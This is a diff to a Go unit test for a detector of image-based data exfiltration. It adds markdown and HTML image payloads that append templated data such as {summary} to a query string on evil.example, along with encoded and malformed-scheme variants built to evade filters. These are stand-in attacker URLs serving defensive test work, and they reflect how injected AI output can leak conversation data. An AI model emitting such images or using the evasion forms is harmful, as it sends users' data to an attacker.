@@ -21,6 +21,19 @@ func TestExfilImage(t *testing.T) {
 		{`<img alt="x" SRC="https://evil.example/p.png?d={data}">`, "{data}"},
 		{"![logo][l]\n\n[l]: https://evil.example/l.png?d={data}\n", "{data}"},
 		{"![l]\n\n[l]: https://evil.example/l.png?d={data}\n", "{data}"},
+		// The address as a renderer reads it: the scheme in any case,
+		// escapes and character references decoded, slashes of either
+		// kind or none, spaces and line breaks dropped.
+		{"![s](HTTPS://evil.example/p.png?d={summary})", "{summary}"},
+		{"![s](&#104;ttps://evil.example/p.png?d={summary})", "{summary}"},
+		{"![s](https&#58;//evil.example/p.png?d={summary})", "{summary}"},
+		{`![s](https:\/\/evil.example/p.png?d={summary})`, "{summary}"},
+		{`![s](https:\\evil.example/p.png?d={summary})`, "{summary}"},
+		{"![s](https:evil.example/p.png?d={summary})", "{summary}"},
+		{"![s](https://evil.example/p.png?d=&#123;summary&#125;)", "{summary}"},
+		{"![s](<ht\ttps://evil.example/p.png?d={x}>)", "{x}"},
+		{`<img src="&#104;ttps://evil.example/p.png?d={data}">`, "{data}"},
+		{`<img src="HTTP://EVIL.example/p.png?d={data}">`, "{data}"},
 		// Not reported: fixed images, links, code, local hosts, ordinary queries.
 		{"![logo](https://example.org/logo.png)", ""},
 		{"![badge](https://img.shields.io/badge/build-passing-green.svg?style=flat)", ""},
@@ -30,6 +43,10 @@ func TestExfilImage(t *testing.T) {
 		{"![s](http://localhost:8080/p.png?d={x})", ""},
 		{"![s](http://192.168.1.4/p.png?d={x})", ""},
 		{"![s](images/{name}.png)", ""},
+		{"![s](/images/{name}.png)", ""},
+		{"![s](images:{name}.png)", ""}, // another scheme
+		{"![s](ftp://evil.example/{name}.png)", ""},
+		{"![s](&#104;ttp://localhost/p.png?d={x})", ""},
 		{"[l]: https://evil.example/l.png?d={data}\n", ""}, // a link's definition, no image uses it
 		{"![s](https://example.org/p.png?v=2&lang=en)", ""},
 	} {
